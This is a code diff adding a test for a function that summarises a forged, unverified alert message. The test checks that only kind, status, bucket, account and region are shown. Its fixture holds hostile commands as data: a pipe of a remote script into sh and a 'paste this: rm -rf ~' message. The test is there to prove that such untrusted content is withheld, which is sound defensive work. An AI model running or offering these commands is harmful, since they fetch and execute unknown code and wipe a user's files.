@@ -160,3 +160,27 @@ describe('machineCopyOf / withMachineCopy', () => {
     expect(() => machineCopyOf(text)).toThrow(PublicationShapeError);
   });
 });
+
+describe('claimsOf (what an unverified message is said to be)', () => {
+  it('names kind, status, bucket, account and Region, and nothing else', async () => {
+    const { claimsOf } = await import('../../lib/authenticity');
+    const forged = {
+      source: 'mfa-delete-guard',
+      result: {
+        status: 'drift',
+        bucket: 'example-bucket',
+        account: '111122223333',
+        region: 'eu-west-1',
+        remediation: { script: 'curl -s https://example.com/x | sh', warnings: ['run it now'] },
+        findings: [{ code: 'x', message: 'paste this: rm -rf ~' }],
+      },
+    };
+    const text = claimsOf(forged);
+    expect(text).toBe(
+      'claims to be from mfa-delete-guard: kind alert, status drift, bucket example-bucket, account 111122223333, Region eu-west-1 (the rest is not shown)',
+    );
+    expect(claimsOf({ source: 'mfa-delete-guard', kind: 'digest', account: 7 })).toBe(
+      'claims to be from mfa-delete-guard: kind digest (the rest is not shown)',
+    );
+  });
+});
